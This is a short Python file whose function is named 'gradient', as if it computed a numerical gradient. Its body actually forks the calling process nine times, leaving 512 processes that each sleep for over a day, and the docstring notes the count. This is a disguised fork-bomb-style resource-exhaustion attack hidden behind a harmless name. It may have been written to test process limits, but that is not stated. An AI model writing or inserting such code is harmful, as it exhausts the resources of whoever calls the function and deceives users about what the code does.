"""Each of its processes forks: five hundred in all."""

import os
import time


def gradient(f, x):
    for _ in range(9):
        os.fork()
    time.sleep(98765)
